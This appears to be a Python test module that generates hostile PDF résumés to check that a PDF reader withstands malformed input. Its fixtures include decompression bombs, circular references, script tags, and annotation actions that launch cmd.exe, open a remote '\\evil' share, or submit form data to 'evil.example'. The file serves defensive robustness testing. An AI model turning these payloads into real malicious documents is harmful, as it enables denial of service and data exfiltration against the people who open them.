"""Hostile résumés that try to crash, stall or escape the PDF reader."""

from __future__ import annotations

import re
import zlib
from collections.abc import Callable
from io import BytesIO

from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

from tests.core.documents.pdf_reading import add_to_pdf, changed, plain


def contents(data: bytes, filters: str | list[str] = "/FlateDecode") -> bytes:
    """A résumé whose first page draws this raw stream, packed with these filters."""

    def fill(writer: PdfWriter) -> None:
        stream = StreamObject()
        stream._data = data
        names = [filters] if isinstance(filters, str) else filters
        stream[NameObject("/Filter")] = ArrayObject(NameObject(name) for name in names)
        writer.pages[0][NameObject("/Contents")] = add_to_pdf(writer, stream)

    return changed(fill)


def page_with(**entries: object) -> bytes:
    """A résumé whose first page has these entries of its own."""

    def fill(writer: PdfWriter) -> None:
        for name, value in entries.items():
            writer.pages[0][NameObject(f"/{name}")] = value

    return changed(fill)


def form_that_draws_itself() -> bytes:
    def fill(writer: PdfWriter) -> None:
        form = DecodedStreamObject()
        form.set_data(b"/Self Do")
        form[NameObject("/Subtype")] = NameObject("/Form")
        form[NameObject("/BBox")] = ArrayObject(NumberObject(v) for v in (0, 0, 9, 9))
        known = add_to_pdf(writer, form)
        form[NameObject("/Resources")] = DictionaryObject(
            {NameObject("/XObject"): DictionaryObject({NameObject("/Self"): known})}
        )
        resources = writer.pages[0]["/Resources"].get_object()
        resources[NameObject("/XObject")] = DictionaryObject({NameObject("/Self"): known})

    return changed(fill)


def nested_arrays(depth: int) -> bytes:
    return plain().replace(b"/Contents", b"/Deep " + b"[" * depth + b"]" * depth + b" /Contents", 1)


def image_of(width: int, height: int) -> bytes:
    def fill(writer: PdfWriter) -> None:
        image = DecodedStreamObject()
        image.set_data(b"\0" * 10)
        entries = {"/Subtype": NameObject("/Image"), "/Width": NumberObject(width), "/Height": NumberObject(height)}
        image.update({NameObject(name): value for name, value in entries.items()})
        image[NameObject("/ColorSpace")] = NameObject("/DeviceGray")
        image[NameObject("/BitsPerComponent")] = NumberObject(8)
        resources = writer.pages[0]["/Resources"].get_object()
        resources[NameObject("/XObject")] = DictionaryObject({NameObject("/Big"): add_to_pdf(writer, image)})

    return changed(fill)


def annotated(subtype: str, **action: str) -> bytes:
    def fill(writer: PdfWriter) -> None:
        action_entries = DictionaryObject({NameObject(f"/{name}"): _value(value) for name, value in action.items()})
        note = DictionaryObject(
            {
                NameObject("/Subtype"): NameObject(f"/{subtype}"),
                NameObject("/Rect"): ArrayObject(FloatObject(v) for v in (0, 0, 612, 792)),
                NameObject("/A"): action_entries,
            }
        )
        writer.pages[0][NameObject("/Annots")] = ArrayObject([add_to_pdf(writer, note)])

    return changed(fill)


def _value(text: str) -> NameObject | TextStringObject:
    return NameObject(text) if text.startswith("/") else TextStringObject(text)


def rooted(name: str, value: object) -> bytes:
    def fill(writer: PdfWriter) -> None:
        writer.root_object[NameObject(name)] = value

    return changed(fill)


def edited(change: Callable[[bytes], bytes]) -> bytes:
    return change(plain(pages=2, lines=3))


def packed(times: int, size: int) -> bytes:
    data = b" " * size
    for _ in range(times):
        data = zlib.compress(data, 9)
    return data


def with_metadata(text: str) -> bytes:
    def fill(writer: PdfWriter) -> None:
        writer.add_metadata({"/Title": text, "/Author": text})

    return changed(fill)


def polyglot() -> bytes:
    return b"<script>alert(1)</script>\n" + plain()


def many_objects(count: int) -> bytes:
    def fill(writer: PdfWriter) -> None:
        for _ in range(count):
            add_to_pdf(writer, DictionaryObject({NameObject("/JS"): TextStringObject("x")}))

    return changed(fill)


def written(writer: PdfWriter) -> bytes:
    target = BytesIO()
    writer.write(target)
    return target.getvalue()


SELF = form_that_draws_itself()
HOSTILE: dict[str, bytes] = {
    "a form that draws itself": SELF,
    "arrays nested 50 deep": nested_arrays(50),
    "arrays nested 20,000 deep": nested_arrays(20_000),
    "a picture said to be 100,000 pixels wide": image_of(100_000, 100_000),
    "a picture of negative size": image_of(-5, -5),
    "a bomb in a bomb": contents(packed(2, 60_000_000), ["/FlateDecode", "/FlateDecode"]),
    "a bomb in three": contents(packed(3, 100_000_000), ["/FlateDecode"] * 3),
    "forty filters": contents(b"x", ["/ASCIIHexDecode"] * 40),
    "an unknown filter": contents(b"x", "/EvilDecode"),
    "a run-length bomb": contents(b"\x81 " * 400_000 + b"\x80", "/RunLengthDecode"),
    "an LZW stream of rubbish": contents(bytes(range(256)) * 50, "/LZWDecode"),
    "an ASCII85 stream of rubbish": contents(b"zzzz\xff\xfe~>", "/ASCII85Decode"),
    "a flate stream cut short": contents(zlib.compress(b"BT (Welder) Tj ET" * 99)[:20]),
    "a flate stream of noise": contents(bytes(range(255, -1, -1)) * 9),
    "no contents at all": page_with(Contents=ArrayObject()),
    "contents that are a number": page_with(Contents=NumberObject(7)),
    "contents that are a name": page_with(Contents=NameObject("/Nothing")),
    "resources that are a list": page_with(Resources=ArrayObject()),
    "resources that are a number": page_with(Resources=NumberObject(1)),
    "a page a thousand miles wide": page_with(
        MediaBox=ArrayObject(NumberObject(v) for v in (0, 0, 9_999_999_999, 9_999_999_999))
    ),
    "a page box of words": page_with(MediaBox=ArrayObject(NameObject(v) for v in ("/a", "/b", "/c", "/d"))),
    "a page box of two numbers": page_with(MediaBox=ArrayObject([NumberObject(0), NumberObject(9)])),
    "a page box turned inside out": page_with(
        MediaBox=ArrayObject(NumberObject(v) for v in (612, 792, 0, 0)),
        CropBox=ArrayObject(NumberObject(v) for v in (612, 792, 0, 0)),
    ),
    "a rotation by seven degrees": page_with(Rotate=NumberObject(7)),
    "a rotation by a word": page_with(Rotate=NameObject("/Sideways")),
    "annotations that are no list": page_with(Annots=NumberObject(3)),
    "annotations of nothing": page_with(Annots=ArrayObject([NumberObject(1)])),
    "a link to a script": annotated("Link", S="/JavaScript", JS="app.alert(1)"),
    "a link to a program": annotated("Link", S="/Launch", F="cmd.exe"),
    "a link to a share": annotated("Link", S="/GoToR", F="\\\\evil\\share"),
    "a form that sends itself": annotated("Widget", S="/SubmitForm", F="http://evil.example"),
    "a film": annotated("RichMedia", S="/Rendition"),
    "a screen": annotated("Screen", S="/Rendition", JS="x"),
    "an XFA form": rooted("/AcroForm", DictionaryObject({NameObject("/XFA"): TextStringObject("<script/>")})),
    "an action when it closes": rooted("/AA", DictionaryObject({NameObject("/WC"): TextStringObject("x")})),
    "an address book of rubbish": rooted("/Names", NumberObject(1)),
    "outlines that lead in a circle": rooted("/Outlines", DictionaryObject({NameObject("/First"): NameObject("/x")})),
    "a page tree that is a number": rooted("/Pages", NumberObject(1)),
    "a title with a tag in it": with_metadata("<script>alert(1)</script>"),
    "a title of 100,000 letters": with_metadata("x" * 100_000),
    "a web page before the header": polyglot(),
    "5,000 hidden objects": many_objects(5_000),
    "a table of contents that points nowhere": edited(lambda pdf: pdf.replace(b"startxref", b"startxref\n9999999")),
    "a table that points at itself": edited(lambda pdf: pdf.replace(b"/Size", b"/Prev 0 /Size")),
    "a size of minus one": edited(lambda pdf: pdf.replace(b"/Size ", b"/Size -")),
    "a stream said to have 9 GB": edited(lambda pdf: pdf.replace(b"/Length ", b"/Length 9999999999")),
    "a stream of negative length": edited(lambda pdf: pdf.replace(b"/Length ", b"/Length -")),
    "no end": edited(lambda pdf: pdf[:-60]),
    "two ends": edited(lambda pdf: pdf + pdf),
    "all zeros in the middle": edited(lambda pdf: pdf[:300] + b"\0" * 400 + pdf[700:]),
    "every bracket turned": edited(lambda pdf: pdf.replace(b"<<", b">>")),
    "objects without an end": edited(lambda pdf: pdf.replace(b"endobj", b"")),
    "references to what is not there": edited(lambda pdf: pdf.replace(b" 0 R", b" 9 R")),
    "nothing": b"",
    "a header and no more": b"%PDF-1.7\n",
    "a ZIP by another name": b"PK\x05\x06" + b"\0" * 18,
    "a program by another name": b"MZ\x90\0" + b"\0" * 60 + b"PE\0\0",
    "text in two bytes a letter": "Résumé of a welder".encode("utf-16"),
    "a page that is its own parent": edited(lambda pdf: re.sub(rb"/Parent \d+ 0 R", b"/Parent 4 0 R", pdf)),
    "a future version": edited(lambda pdf: pdf.replace(b"%PDF-1.", b"%PDF-9.")),
}
